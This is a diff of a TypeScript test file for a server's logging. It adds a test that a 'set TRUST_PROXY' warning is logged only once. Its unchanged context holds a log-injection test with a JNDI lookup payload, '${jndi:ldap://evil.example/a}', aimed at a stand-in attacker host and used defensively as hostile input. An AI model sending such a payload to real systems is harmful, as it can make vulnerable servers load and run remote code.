@@ -56,6 +56,12 @@ function end(): Promise<void> {
 
 const ESCAPES = '\u001b[31mred\u001b[0m'
 
+test('a proxy whose word is not taken is told once', async () => {
+  const person = new Person(address)
+  for (let asked = 0; asked < 3; asked++) await person.fetch('/ie')
+  await expect.poll(() => said.match(/set TRUST_PROXY/g)).toHaveLength(1)
+})
+
 test('whatever a stranger sends, a line of the log is one JSON line and claims no other address', async () => {
   const person = new Person(address)
   const jndi = `\${jndi:ldap://evil.example/a}`
